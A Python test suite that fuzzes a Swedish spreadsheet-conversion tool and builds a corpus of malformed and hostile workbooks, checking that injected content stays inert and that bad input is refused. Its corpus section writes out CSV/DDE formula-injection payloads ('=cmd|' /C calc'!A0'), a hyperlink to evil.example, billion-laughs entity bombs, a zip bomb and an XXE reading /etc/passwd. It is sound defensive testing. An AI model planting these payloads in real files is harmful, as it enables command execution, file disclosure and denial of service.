    for entry in workbook.iter(f"{{{_MAIN}}}sheet"):
        name = entry.get("name") or ""
        target = targets[entry.get(f"{{{_REL}}}id")]
        xml = ElementTree.fromstring(parts[f"xl/{target}"])
        cells: dict[str, XCell] = {}
        for c in xml.iter(f"{{{_MAIN}}}c"):
            kind = c.get("t", "n")
            f = c.find("m:f", ns)
            v = c.find("m:v", ns)
            text = v.text if v is not None else None
            inline = c.find("m:is", ns)
            value: float | str | None
            if kind == "s":
                value = strings[int(text or "0")]
            elif kind == "inlineStr":
                value = (
                    "".join(t.text or "" for t in inline.iter(f"{{{_MAIN}}}t")) if inline is not None else ""
                )
            elif kind in ("str", "e"):
                value = text
            else:
                value = None if text is None else float(text)
            cells[c.get("r") or ""] = XCell(
                "f" if f is not None else kind, value, None if f is None else f.text
            )
        sheets[name] = cells
        order.append(name)
    return Result(sheets, order, parts)


_SHEET_REF = re.compile(r"'((?:[^']|'')+)'!|([^\s'!=+*/():,$]+)!")
_CELL_REF = re.compile(r"\$?[A-Z]{1,3}\$?\d+")


def check_formula(formula: str, sheets: list[str]) -> None:
    """Only the writer's own formulas: cell references (possibly to our sheets), SUM, + - * / and :"""

    def sheet_ref(found: re.Match[str]) -> str:
        name = found.group(1).replace("''", "'") if found.group(1) is not None else found.group(2)
        assert name in sheets, f"formula {formula!r} refers to sheet {name!r}"
        return ""

    rest = _CELL_REF.sub("", _SHEET_REF.sub(sheet_ref, formula)).replace("SUM(", "(")
    assert set(rest) <= set("+-*/():"), f"formula {formula!r} is not one of the writer's"


@dataclass(frozen=True)
class Figures:
    """What a result says, in a form to compare across runs."""

    persons: tuple[int, ...]
    villkor: tuple[tuple[tuple[float, ...], tuple[float, ...]], ...]  # (pots, national sums), sorted
    bodies: tuple[tuple[str, ...], ...]  # the national bodies' names (folded), sorted
    lan_totals: tuple[float, ...]
    grand_total: float


def close(a: float, b: float) -> bool:
    return abs(a - b) <= 1e-9 * max(1.0, abs(a), abs(b))


def check_result(data: bytes, values_only: bool, book: Book | None) -> tuple[Figures, Result]:
    """The result's figures are consistent and come from the input; nothing in it would run."""
    result = read_result(data)
    order = result.order
    assert order[0] == "Befolkning" and "Sammanställning" in order, order
    summary_at = order.index("Sammanställning")
    assert all(name in EXTRA_RESULT_SHEETS for name in order[summary_at + 1 :]), order
    assert len({name.lower() for name in order}) == len(order), order
    assert all(0 < len(name) <= 31 for name in order), order
    for name, xml in result.raw.items():
        assert b"<hyperlink" not in xml and b"/hyperlink" not in xml, f"hyperlink in {name}"
    created = re.search(rb"<dcterms:created[^>]*>([^<]*)<", result.raw.get("docProps/core.xml", b""))
    if created and not re.fullmatch(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", created.group(1)):
        raise known("bug-reference-date-year-1.xlsx")  # "1-11-01T00:00:00Z": no reader opens it
    for sheet, cells in result.sheets.items():
        for ref, c in cells.items():
            if c.kind == "f":
                assert not values_only, f"{sheet}!{ref}: formula in a --values-only result"
                check_formula(c.formula or "", order)
            if c.kind in ("n", "f"):
                assert isinstance(c.value, float), f"{sheet}!{ref} = {c.value!r}"
                if not math.isfinite(c.value):
                    raise known("bug-pots-overflow.xlsx")

    # Befolkning: the 21 län in the seed's order, persons, share = persons / RIKET.
    pop = "Befolkning"
    first, riket = 4, 4 + len(NAMES)
    assert [result.get(pop, 0, r) for r in range(first, riket)] == list(NAMES)
    assert result.get(pop, 0, riket) == "RIKET"
    persons = [result.num(pop, 1, r) for r in range(first, riket)]
    assert all(p.is_integer() and p > 0 for p in persons), persons
    total_persons = sum(persons)
    if total_persons >= 2**63 and not close(result.num(pop, 1, riket), total_persons):
        raise known("bug-persons-sum-wraps.xlsx")
    assert close(result.num(pop, 1, riket), total_persons)
    shares = [p / total_persons for p in persons]
    for r, share in zip(range(first, riket), shares, strict=True):
        assert close(result.num(pop, 2, r), share), (r, result.num(pop, 2, r), share)

    # Villkor sheets: region cells = pot × share, Totalt, RIKET, national bodies, SUMMA.
    villkor_names = order[1:summary_at]
    per_villkor = []
    region_totals: list[list[float]] = []
    expected_grand = 0.0
    for name in villkor_names:
        headers = []
        col = 1
        while isinstance(result.get(name, col, 3), str):
            headers.append(result.get(name, col, 3))
            col += 1
        assert result.get(name, 0, 3) == "Län" and headers, (name, headers)
        pots_count = 1 if len(headers) == 1 else len(headers) - 1
        if len(headers) > 1:
            assert headers[-1] == "Totalt", headers
        total_col = 1 if pots_count == 1 else pots_count + 1
        pots = [result.num(name, 1 + p, riket) for p in range(pots_count)]
        assert all(p >= 0 for p in pots), pots
        totals = []
        for r, share in zip(range(first, riket), shares, strict=True):
            assert result.get(name, 0, r) == NAMES[r - first]
            parts = [result.num(name, 1 + p, r) for p in range(pots_count)]
            for part, pot in zip(parts, pots, strict=True):
                assert close(part, pot * share), (name, r, part, pot * share)
            total = result.num(name, total_col, r)
            assert close(total, sum(parts))
            totals.append(total)
        region_totals.append(totals)
        pot_total = result.num(name, total_col, riket)
        assert close(pot_total, sum(pots))
        bodies = []
        r = riket + 2
        while isinstance(result.get(name, 0, r), str) and result.get(name, 0, r) != "SUMMA":
            if not isinstance(result.get(name, total_col, r), float):
                break
            bodies.append((str(result.get(name, 0, r)), result.num(name, total_col, r)))
            r += 1
        assert all(amount >= 0 for _, amount in bodies), bodies
        if bodies:
            assert result.get(name, 0, r) == "SUMMA"
            assert close(result.num(name, total_col, r), pot_total + sum(a for _, a in bodies))
        expected_grand += pot_total + sum(a for _, a in bodies)
        per_villkor.append((tuple(pots), tuple(sorted((fold(b), a) for b, a in bodies))))

    # Sammanställning: one column per villkor sheet, TOTALT, SUMMA; the bodies; the grand SUMMA.
    summary = "Sammanställning"
    header = 4
    labels = [result.get(summary, c, header) for c in range(1, len(villkor_names) + 2)]
    assert labels == [*villkor_names, "TOTALT"], labels
    total_col = len(villkor_names) + 1
    lan_totals = []
    for i, lan in enumerate(NAMES):
        r = header + 1 + i
        assert result.get(summary, 0, r) == lan
        row = [result.num(summary, 1 + v, r) for v in range(len(villkor_names))]
        for v, value in enumerate(row):
            assert close(value, region_totals[v][i]), (lan, villkor_names[v])
        lan_totals.append(result.num(summary, total_col, r))
        assert close(lan_totals[-1], sum(row))
    summa = header + 1 + len(NAMES)
    assert result.get(summary, 0, summa) == "SUMMA"
    for v in range(len(villkor_names)):
        assert close(result.num(summary, 1 + v, summa), sum(region_totals[v]))
    r = summa + 1
    body_sums = [0.0] * len(villkor_names)
    while isinstance(result.get(summary, 0, r), str) and result.get(summary, 0, r) != "SUMMA":
        body = fold(str(result.get(summary, 0, r)))
        for v, (_, bodies_v) in enumerate(per_villkor):
            amount = dict(bodies_v).get(body)
            got = result.get(summary, 1 + v, r)
            if amount is None:
                assert got is None, (body, villkor_names[v], got)
            else:
                assert isinstance(got, float) and close(got, amount), (body, villkor_names[v], got, amount)
                body_sums[v] += amount
        r += 1
    grand_row = r if any(bodies for _, bodies in per_villkor) else summa
    if grand_row != summa:
        assert result.get(summary, 0, grand_row) == "SUMMA"
    for v, (pot_amounts, _) in enumerate(per_villkor):
        assert close(result.num(summary, 1 + v, grand_row), sum(pot_amounts) + body_sums[v])
    grand = result.num(summary, total_col, grand_row)
    assert close(grand, expected_grand), (grand, expected_grand)

    if book is not None:
        check_against_input(book, result, villkor_names, persons, per_villkor)
    figures = Figures(
        tuple(int(p) for p in persons),
        tuple(sorted((pots, tuple(sorted(a for _, a in bodies))) for pots, bodies in per_villkor)),
        tuple(sorted(tuple(sorted(name for name, _ in bodies)) for _, bodies in per_villkor)),
        tuple(lan_totals),
        grand,
    )
    return figures, result


def check_against_input(
    book: Book,
    result: Result,
    villkor_names: list[str],
    persons: list[float],
    per_villkor: list[tuple[tuple[float, ...], tuple[tuple[str, float], ...]]],
) -> None:
    """Every figure the result starts from is in the input: persons, pots, national bodies."""

    def numbers(sheet: Sheet) -> set[float]:
        return {x for row in sheet.rows for v in row if (x := number_of(v)) is not None}

    def texts(sheet: Sheet) -> set[str]:
        found = set()
        for row in sheet.rows:
            for v in row:
                if isinstance(v, Formula):
                    v = v.cached
                if v is not None and not isinstance(v, ErrorCell | RawNumber):
                    found.add(fold(str(v).strip()))
        return found

    population = [s for s in book if fold(s.title) == "befolkning"]
    assert population, "converted without a Befolkning sheet"
    in_population = set().union(*(numbers(s) for s in population))
    assert all(p in in_population for p in persons), "a person count that is not in the input"
    by_title: dict[str, Sheet] = {}
    for sheet in book:
        by_title.setdefault(sheet.title, sheet)  # openpyxl keeps the first of two alike names
    if any(name not in by_title for name in villkor_names):
        if any(not s.title for s in book):  # openpyxl named it "Sheet"
            raise known("bug-sheet-name-empty.xlsx")
        if len({s.title.lower() for s in book}) < len(book):  # openpyxl renamed "VILLKOR 1" "VILLKOR 11"
            raise known("bug-sheet-names-differ-in-case.xlsx")
    for name, (pots, bodies) in zip(villkor_names, per_villkor, strict=True):
        assert name in by_title, f"villkor {name!r} is not a sheet of the input"
        sheet = by_title[name]
        assert sheet.state == "visible", f"hidden sheet {name!r} was converted"
        values, words = numbers(sheet), texts(sheet)
        assert all(p in values for p in pots), (name, pots)
        for body, amount in bodies:
            assert body in words and amount in values, (name, body, amount)


# -- one fuzz run ------------------------------------------------------------------------------------


@dataclass
class Plan:
    base: str
    ops: list[Op]
    byte_ops: list[Op]
    mode: str
    roundtrip: bool


@dataclass
class Outcome:
    ok: bool
    known_bug: str | None = None


_BASE_FIGURES: dict[str, Figures] = {}


def base_figures(name: str, folder: Path) -> Figures:
    if name not in _BASE_FIGURES:
        source = folder / f"base-{name}.xlsx"
        source.write_bytes(to_xlsx(base(name)))
        run = run_cli([str(source), "-o", str(folder / "base-ut")])
        assert run.code == 0, run
        _BASE_FIGURES[name], _ = check_result(
            (folder / "base-ut" / f"base-{name}-resultat.xlsx").read_bytes(), False, None
        )
    return _BASE_FIGURES[name]


def build(plan: Plan) -> tuple[bytes, Book | None, bool, list[str]]:
    """The mutated workbook's bytes, its model (None after byte damage), whether every figure must
    stay the base's, and the injected texts."""
    book = base(plan.base)
    keeps = True
    for op in plan.ops:
        keeps = apply_op(book, op) and keeps
    payloads = expected_texts(book) if keeps else []
    unchanged_sample = plan.base == "sample" and not plan.ops
    data = SAMPLE_2020.read_bytes() if unchanged_sample else to_xlsx(book)
    for op in plan.byte_ops:
        data = apply_bytes(data, op)
    if plan.byte_ops:
        return data, None, False, payloads
    return data, book, keeps, payloads


def _runnable(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@")) or "http" in text or "mailto:" in text


def expected_texts(book: Book) -> list[str]:
    """Texts a spreadsheet would run that must come out as text cells: in villkor sheets, a title, a
    note (alone in its row), a national body's name, and the sheet's name."""
    found = []
    for sheet in book:
        at = layout(sheet)
        if at.kind != "villkor" or at.header is None:
            continue
        if _runnable(sheet.title):
            found.append(sheet.title)
        title = next((v for row in sheet.rows[: at.header] for v in row if isinstance(v, str)), None)
        if title is not None and _runnable(title):
            found.append(title.strip())
        if at.riket is None:
            continue
        for row in sheet.rows[at.riket + 1 :]:
            values = [v for v in row if v is not None]
            texts = [v for v in values if isinstance(v, str) and number_of(v) is None]
            if (
                len(values) in (1, 2)
                and len(texts) == 1
                and _runnable(texts[0])
                and fold(texts[0]) != "summa"
            ):
                found.append(texts[0].strip())
    return found


def run_plan(
    data: bytes,
    book: Book | None,
    keeps: bool,
    payloads: list[str],
    mode: str,
    roundtrip: bool,
    base_name: str,
) -> Outcome:
    with tempfile.TemporaryDirectory(prefix="sjukmiljard-fuzz-") as temp:
        folder = Path(temp)
        inbox, outbox = folder / "in", folder / "ut"
        inbox.mkdir()
        source = inbox / INPUT_NAME
        source.write_bytes(data)
        before = digest(source)
        args = [str(source), "-o", str(outbox)]
        if mode == "values-only":
            args.append("--values-only")
        elif mode == "check":
            args.append("--check")
        run = run_cli(args)
        text = run.out + run.err
        assert "Traceback" not in text, text
        assert digest(source) == before, "the input was changed"
        assert listing(inbox) == [INPUT_NAME], listing(inbox)
        if "oväntat fel" in text:
            bug = next((bug for signature, bug in KNOWN_ERRORS.items() if signature in text), None)
            if bug is not None and not STRICT:
                assert results_in(outbox, "Avvisad") == [], "partial output"
                return Outcome(False, bug)
            raise AssertionError(f"unexpected error: {text}")
        if run.code == 0:
            if mode == "check":
                assert run.out.startswith(f"Godkänd: {INPUT_NAME} ("), run.out
                assert results_in(outbox, None) == [], "--check wrote something"
                return Outcome(True)
            assert run.out.startswith(f"Klar: {source} → {outbox / RESULT_NAME}\n"), run.out
            assert run.err == "", run.err
            assert results_in(outbox, "Klar") == [RESULT_NAME], listing(outbox)
            output = (outbox / RESULT_NAME).read_bytes()
            try:
                figures, result = check_result(output, mode == "values-only", book)
            except KnownBug as bug:
                return Outcome(True, str(bug))
            strings = {c.value for cells in result.sheets.values() for c in cells.values() if c.kind == "s"}
            if keeps:
                assert _same(figures, base_figures(base_name, folder), names=False), (
                    "a mutation that keeps every figure changed the result"
                )
                for payload in payloads:
                    assert payload in strings, f"injected text {payload!r} is not a text cell of the result"
            if roundtrip:
                again = folder / "igen"
                second = run_cli([str(outbox / RESULT_NAME), "-o", str(again)])
                assert second.code == 0, second
                refigures, _ = check_result(
                    (again / RESULT_NAME.replace(".xlsx", "-resultat.xlsx")).read_bytes(), False, None
                )
                assert _same(refigures, figures), "converting the result again changed a figure"
            return Outcome(True)
        assert not keeps, f"a mutation that keeps every figure was refused:\n{text}"
        assert run.code == 1, (run.code, text)
        assert run.out == "", run.out
        lines = run.err.splitlines()
        assert lines[0] == f"Avvisad: {source}", lines
        assert len(lines) >= 2 and all(line.startswith("  - ") for line in lines[1:]), lines
        assert results_in(outbox, "Avvisad") == [], f"output after a refusal: {listing(outbox)}"
        return Outcome(False)


def _same(a: Figures, b: Figures, *, names: bool = True) -> bool:
    """The same figures (to within rounding); with `names`, the same national bodies too."""

    def flat(f: Figures) -> list[float]:
        values = [float(p) for p in f.persons] + list(f.lan_totals) + [f.grand_total]
        for pots, amounts in f.villkor:
            values += [*pots, *amounts]
        return values

    def shape(f: Figures) -> list[tuple[int, int]]:
        return [(len(pots), len(amounts)) for pots, amounts in f.villkor]

    if shape(a) != shape(b) or len(a.persons) != len(b.persons) or (names and a.bodies != b.bodies):
        return False
    return all(close(x, y) for x, y in zip(flat(a), flat(b), strict=True))


# -- hypothesis strategies -----------------------------------------------------------------------

_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cn")), min_size=0, max_size=40)
_SHEET_NAMES = st.one_of(st.sampled_from(SAFE_SHEET_NAMES + ODD_SHEET_NAMES), _TEXT)
_INDEX = st.integers(0, 60)

STRUCTURAL: st.SearchStrategy[Op] = st.one_of(
    st.tuples(st.just("textify"), _INDEX, _INDEX, _INDEX, st.integers(0, 11), st.booleans()),
    st.tuples(st.just("swap_rows"), _INDEX, _INDEX, _INDEX),
    st.tuples(st.just("blank_cell"), _INDEX, _INDEX, _INDEX),
    st.tuples(st.just("set_text"), _INDEX, _INDEX, _INDEX, st.one_of(st.sampled_from(CELL_TEXTS), _TEXT)),
    st.tuples(st.just("set_number"), _INDEX, _INDEX, _INDEX, st.sampled_from(NUMBERS)),
    st.tuples(
        st.just("set_formula"), _INDEX, _INDEX, _INDEX, st.sampled_from(("none", "same", "text", "number"))
    ),
    st.tuples(st.just("set_error"), _INDEX, _INDEX, _INDEX, st.sampled_from(ERRORS)),
    st.tuples(st.just("duplicate_row"), _INDEX, _INDEX),
    st.tuples(st.just("delete_row"), _INDEX, _INDEX),
    st.tuples(st.just("insert_blank_row"), _INDEX, _INDEX),
    st.tuples(st.just("merge"), _INDEX, _INDEX, _INDEX, st.integers(0, 3), st.integers(0, 2)),
    st.tuples(st.just("delete_sheet"), _INDEX),
    st.tuples(st.just("rename_sheet"), _INDEX, _SHEET_NAMES),
    st.tuples(st.just("set_state"), _INDEX, st.sampled_from(STATES)),
    st.tuples(st.just("move_sheet"), _INDEX, _INDEX),
    st.tuples(
        st.just("add_sheet"),
        st.sampled_from(("notes", "empty", "anvisningar", "population", "copy")),
        _SHEET_NAMES,
    ),
    st.tuples(st.just("lan_alias"), _INDEX, _INDEX),
    st.tuples(st.just("date_form"), _INDEX),
    st.tuples(
        st.just("inject"),
        st.sampled_from(("title", "note", "body", "sheetname")),
        _INDEX,
        st.sampled_from(PAYLOADS),
    ),
    st.tuples(
        st.just("far_cell"),
        _INDEX,
        st.integers(0, 3000),
        _INDEX,
        st.sampled_from(("Anteckning", "7", "SUMMA")),
    ),
)
BYTES: st.SearchStrategy[Op] = st.one_of(
    st.tuples(st.just("truncate"), st.integers(0, 999)),
    st.tuples(
        st.just("flip"), st.lists(st.tuples(st.integers(0, 999), st.integers(0, 255)), min_size=1, max_size=3)
    ),
    st.tuples(
        st.just("corrupt"),
        _INDEX,
        st.sampled_from(("cut", "garbage", "bad_utf8", "empty", "remove", "entity_bomb", "xxe", "dtd_only")),
    ),
    st.tuples(st.just("zip_bomb"), st.just("entry")),
)


@st.composite
def plans(draw: st.DrawFn) -> Plan:
    base_name = draw(st.sampled_from(("small", "small", "small", "small", "sample")))
    ops = draw(st.lists(STRUCTURAL, min_size=0 if base_name == "sample" else 1, max_size=4))
    byte_ops = draw(st.lists(BYTES, max_size=2)) if draw(st.integers(0, 4)) == 0 else []
    mode = draw(st.sampled_from(("normal", "normal", "normal", "values-only", "check")))
    return Plan(base_name, ops, byte_ops, mode, roundtrip=draw(st.integers(0, 3)) == 0)


# -- the fresh run ---------------------------------------------------------------------------------


@dataclass
class Stats:
    runs: int = 0
    converted: int = 0
    refused: int = 0
    known: dict[str, int] = field(default_factory=dict)
    failures: int = 0
    seconds: float = 0.0
    examples: int = 0

    def line(self) -> str:
        known = sum(self.known.values())
        extra = f", {known} kända fel ({', '.join(sorted(self.known))})" if known else ""
        return (
            f"fuzz: {self.runs} mutationer körda, {self.failures} fel{extra} "
            f"({self.converted} konverterade, {self.refused} avvisade; {self.seconds:.0f} s, "
            f"max_examples={self.examples})"
        )


STATS = Stats()


class _Summary:
    """Prints the fuzz line at the end of the session (a plugin registered by the test itself)."""

    def pytest_terminal_summary(self, terminalreporter: Any) -> None:
        if STATS.runs:
            terminalreporter.write_line(STATS.line())


def save_failure(data: bytes, plan: Plan, error: BaseException) -> Path:
    folder = Path(os.environ.get("SJUKMILJARD_FUZZ_SAVE") or Path(tempfile.gettempdir()) / "sjukmiljard-fuzz")
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"fail-{type(error).__name__}.xlsx"
    path.write_bytes(data)
    path.with_suffix(".json").write_text(
        json.dumps(
            {"plan": dataclasses.asdict(plan), "error": str(error)[:2000]},
            ensure_ascii=False,
            default=repr,
            indent=1,
        )
    )
    return path


def _fuzz_one(plan: Plan) -> None:
    data, book, keeps, payloads = build(plan)
    STATS.runs += 1
    try:
        outcome = run_plan(data, book, keeps, payloads, plan.mode, plan.roundtrip, plan.base)
    except BaseException as error:
        STATS.failures += 1
        where = save_failure(data, plan, error)
        error.add_note(f"fuzz: the failing workbook is saved as {where} (plan beside it)")
        raise
    if outcome.known_bug is not None:
        STATS.known[outcome.known_bug] = STATS.known.get(outcome.known_bug, 0) + 1
    elif outcome.ok:
        STATS.converted += 1
    else:
        STATS.refused += 1


def test_fuzz_mutations(request: pytest.FixtureRequest) -> None:
    manager = request.config.pluginmanager
    if not manager.has_plugin("sjukmiljard-fuzz-summary"):
        manager.register(_Summary(), "sjukmiljard-fuzz-summary")
    STATS.examples = fuzz_examples()
    fuzz = settings(
        max_examples=STATS.examples,
        deadline=None,
        derandomize=True,
        database=None,
        print_blob=False,
        suppress_health_check=list(HealthCheck),
    )(given(plans())(_fuzz_one))
    start = time.perf_counter()
    try:
        fuzz()
    finally:
        STATS.seconds = time.perf_counter() - start


# -- fixed cases that need no corpus file -----------------------------------------------------------


def test_harness_reproduces_the_bases(tmp_path: Path) -> None:
    """The model and writer above keep a base's meaning: same figures as converting the sample."""
    run = run_cli([str(SAMPLE_2020), "-o", str(tmp_path / "original")])
    assert run.code == 0, run
    original, _ = check_result(
        (tmp_path / "original" / SAMPLE_2020.name.replace(".xlsx", "-resultat.xlsx")).read_bytes(),
        False,
        None,
    )
    assert base_figures("sample", tmp_path) == original or _same(base_figures("sample", tmp_path), original)
    assert math.isclose(original.grand_total, 944.0)
    assert base_figures("small", tmp_path).grand_total == pytest.approx(100 + 1.2 + 550 + 39)


def test_zip_bomb_by_total_size(tmp_path: Path) -> None:
    """201 entries of 1 MB each: no entry is over the ratio limit, the total is over 200 MB."""
    data = apply_bytes(to_xlsx(base("small")), ("zip_bomb", "total"))
    outcome = run_plan(data, None, False, [], "normal", False, "small")
    assert not outcome.ok


# -- the corpus ----------------------------------------------------------------------------------


def _manifest() -> list[dict[str, Any]]:
    if not MANIFEST.exists():  # only while --write-corpus builds it; the manifest test fails then
        return []
    cases: list[dict[str, Any]] = json.loads(MANIFEST.read_text(encoding="utf-8"))["cases"]
    return cases


def _corpus_params() -> Iterator[Any]:
    for case in _manifest():
        marks = []
        if case.get("bug"):
            marks.append(pytest.mark.xfail(strict=True, reason=f"bug: {case['bug']}"))
        yield pytest.param(case, id=case["file"], marks=marks)


def test_corpus_manifest_lists_every_file() -> None:
    assert MANIFEST.exists()
    files = sorted(p.name for p in CORPUS.glob("*.xlsx"))
    listed = sorted(case["file"] for case in _manifest())
    assert files == listed
    for case in _manifest():
        assert case["expect"] in ("ok", "rejected") and case["covers"]
        assert case["expect"] == "ok" or case["message"], case["file"]


@pytest.mark.parametrize("case", list(_corpus_params()))
def test_corpus(case: dict[str, Any], tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in" / INPUT_NAME
    source.parent.mkdir()
    source.write_bytes((CORPUS / case["file"]).read_bytes())
    before = digest(source)
    outbox = tmp_path / "ut"
    args = [str(source), "-o", str(outbox), *case.get("args", [])]
    if case.get("isolate"):
        code, out, err = _isolated(args, case.get("timeout", 60))
    else:
        capfd.readouterr()
        try:
            code = cli.main(args)
        except SystemExit as exit_:
            code = int(exit_.code or 0)
        out, err = capfd.readouterr()
    text = out + err
    assert "Traceback" not in text and "oväntat fel" not in text, text
    assert digest(source) == before
    assert listing(source.parent) == [INPUT_NAME]
    if case["expect"] == "rejected":
        assert code == 1, text
        lines = err.splitlines()
        assert lines[0] == f"Avvisad: {source}" and len(lines) > 1, lines
        assert all(line.startswith("  - ") for line in lines[1:]), lines
        assert case["message"] in err, err
        assert results_in(outbox, "Avvisad") == []
        return
    assert code == 0, text
    if "--check" in case.get("args", []):
        assert results_in(outbox, None) == []
        return
    assert results_in(outbox, "Klar") == [RESULT_NAME]
    _, result = check_result(
        (outbox / RESULT_NAME).read_bytes(), "--values-only" in case.get("args", []), None
    )
    strings = {c.value for cells in result.sheets.values() for c in cells.values() if c.kind == "s"}
    for payload in case.get("text_cells", []):
        assert payload in strings, f"{payload!r} is not a text cell of the result"
    for needle in case.get("absent", []):
        assert all(needle.encode() not in part for part in result.raw.values()), needle


def _isolated(args: list[str], timeout: float) -> tuple[int, str, str]:
    """The CLI in a child process with a time and memory limit: for inputs that may hang or blow up."""
    code = (
        "import resource, sys\n"
        "limit = 1024 ** 3\n"
        "resource.setrlimit(resource.RLIMIT_AS, (limit, limit))\n"
        "from sjukmiljard.cli import main\n"
        "raise SystemExit(main(sys.argv[1:]))\n"
    )
    try:
        proc = subprocess.run(
            [sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=timeout, check=False
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"no answer within {timeout} s")
    return proc.returncode, proc.stdout, proc.stderr


# -- building the corpus ---------------------------------------------------------------------------


def _edited(base_name: str, edit: Callable[[Book], object]) -> bytes:
    book = base(base_name)
    edit(book)
    return to_xlsx(book)


def _small(edit: Callable[[Book], object]) -> bytes:
    return _edited("small", edit)


def _huge_pots(book: Book) -> None:
    put(_sheet(book, "Villkor 3"), 24, 1, 1e308)
    put(_sheet(book, "Villkor 3"), 24, 2, 1e308)


def _sheet(book: Book, title: str) -> Sheet:
    return next(s for s in book if s.title == title)


def _ops(base_name: str, *ops: Op) -> bytes:
    book = base(base_name)
    for op in ops:
        apply_op(book, op)
    return to_xlsx(book)


def _patch(data: bytes, part: str, edit: Callable[[bytes], bytes]) -> bytes:
    parts = unzip(data)
    parts[part] = edit(parts[part])
    return zip_bytes(parts)


def _no_riket(book: Book) -> None:
    pop = _sheet(book, "Befolkning")
    del pop.rows[4 + len(NAMES) - 1]


def _persons_too_large(book: Book) -> None:
    _no_riket(book)
    put(_sheet(book, "Befolkning"), 3, 1, 10**20)


def _persons_wrap(book: Book) -> None:
    _no_riket(book)
    put(_sheet(book, "Befolkning"), 3, 1, 2**62)
    put(_sheet(book, "Befolkning"), 4, 1, 2**62)


def _case_duplicate(book: Book) -> None:
    copy_ = copy.deepcopy(_sheet(book, "Villkor 1"))
    copy_.title = "VILLKOR 1"
    book.append(copy_)


def _villkor_named_befolkning(book: Book) -> None:
    copy_ = copy.deepcopy(_sheet(book, "Villkor 1"))
    copy_.title = "BEFOLKNING"
    book.insert(0, copy_)


def _far_cell_bytes() -> bytes:
    data = to_xlsx(base("small"))
    return _patch(
        data,
        "xl/worksheets/sheet2.xml",
        lambda xml: xml.replace(
            b"</sheetData>",
            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>Långt bort</t></is></c></row>'
            "</sheetData>".encode(),
        ),
    )


def _injections(book: Book) -> None:
    v1, v3 = _sheet(book, "Villkor 1"), _sheet(book, "Villkor 3")
    v1.rows[0][0] = '=HYPERLINK("http://evil.example/","Klicka här")'
    v3.rows[0][0] = "@SUM(A1:A9)"
    v1.rows.append([])
    v1.rows.append(["=cmd|' /C calc'!A0"])
    v1.rows.append(["+46 8 123 45 67 hemligt"])
    v1.rows.append(["-2+3+cmd|' /C calc'!A0"])
    v1.rows.append(["http://evil.example/"])
    _sheet(book, "Villkor 1").rows[27][0] = "=Socialstyrelsen"
    _sheet(book, "Villkor 3").rows[26][0] = "-SKR"


def _injection_sheet_names(book: Book) -> None:
    _sheet(book, "Villkor 1").title = "=1+1"
    _sheet(book, "Villkor 3").title = "@Villkor"


def _sample_swedish_text(book: Book) -> None:
    for op in (
        ("textify", 1, 24, 1, 1, True),
        ("textify", 4, 24, 1, 3, True),
        ("swap_rows", 0, 3, 20),
        ("lan_alias", 2, 0),
        ("lan_alias", 5, 3),
        ("date_form", 3),
    ):
        assert apply_op(book, op)


def _formula_with_cache(book: Book) -> None:
    put(_sheet(book, "Villkor 1"), 24, 1, Formula("50+50", 100))
    put(_sheet(book, "Befolkning"), 0, 0, Formula('"Befolkning 1/11 2019"', "Befolkning 1/11 2019"))


def _merged_title_hidden_notes(book: Book) -> None:
    _sheet(book, "Villkor 3").merges.append("A1:D1")
    book.append(Sheet("Gammalt", copy.deepcopy(_sheet(book, "Villkor 1").rows), state="hidden"))
    book.append(Sheet("Anteckningar", [["Inget villkor här"]]))


CORPUS_CASES: list[tuple[dict[str, Any], Callable[[], bytes]]] = [
    (
        {
            "file": "ok-injection-title-note-body.xlsx",
            "covers": "villkor titles, notes and national bodies starting with = + - @ or a URL stay text",
            "expect": "ok",
            "text_cells": [
                '=HYPERLINK("http://evil.example/","Klicka här")',
                "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0",
                "+46 8 123 45 67 hemligt",
                "-2+3+cmd|' /C calc'!A0",
                "http://evil.example/",
                "=Socialstyrelsen",
                "-SKR",
            ],
        },
        lambda: _small(_injections),
    ),
    (
        {
            "file": "ok-injection-sheet-names.xlsx",
            "covers": "villkor sheets named =1+1 and @Villkor: text in Sammanställning, quoted in formulas",
            "expect": "ok",
            "text_cells": ["=1+1", "@Villkor"],
        },
        lambda: _small(_injection_sheet_names),
    ),
    (
        {
            "file": "ok-injection-values-only.xlsx",
            "covers": "the same injections with --values-only: no formula at all",
            "expect": "ok",
            "args": ["--values-only"],
            "text_cells": ['=HYPERLINK("http://evil.example/","Klicka här")', "=Socialstyrelsen"],
        },
        lambda: _small(_injections),
    ),
    (
        {
            "file": "ok-sample-swedish-text-swapped-aliases.xlsx",
            "covers": "the 2020 sample with numbers as Swedish text, swapped län rows, län aliases, ISO date",
            "expect": "ok",
        },
        lambda: _edited("sample", _sample_swedish_text),
    ),
    (
        {
            "file": "ok-formula-with-cached-value.xlsx",
            "covers": "formulas Excel has calculated (number and text) are read by their cached value",
            "expect": "ok",
        },
        lambda: _small(_formula_with_cache),
    ),
    (
        {
            "file": "ok-merged-title-hidden-and-notes-sheets.xlsx",
            "covers": "a merged title, a hidden copy of a villkor and a sheet without 'Län' are skipped",
            "expect": "ok",
        },
        lambda: _small(_merged_title_hidden_notes),
    ),
    (
        {
            "file": "ok-check-only.xlsx",
            "covers": "--check on a valid workbook writes nothing",
            "expect": "ok",
            "args": ["--check"],
        },
        lambda: to_xlsx(base("small")),
    ),
    (
        {
            "file": "rejected-entity-bomb.xlsx",
            "covers": "billion laughs (10 levels, 10^9 'lol') in the shared strings",
            "expect": "rejected",
            "message": "otillåten XML",
            "isolate": True,
            "timeout": 60,
        },
        lambda: _patch(
            to_xlsx(base("small")),
            "xl/sharedStrings.xml",
            lambda x: with_doctype(x, billion_laughs(10), "&lol9;"),
        ),
    ),
    (
        {
            "file": "rejected-entity-bomb-in-sheet.xlsx",
            "covers": "billion laughs in a worksheet part",
            "expect": "rejected",
            "message": "otillåten XML",
            "isolate": True,
            "timeout": 60,
        },
        lambda: _patch(
            to_xlsx(base("small")),
            "xl/worksheets/sheet1.xml",
            lambda x: with_doctype(x, billion_laughs(10), "&lol9;"),
        ),
    ),
    (
        {
            "file": "rejected-xxe.xlsx",
            "covers": "an external entity (file:///etc/passwd) in the shared strings is not resolved",
            "expect": "rejected",
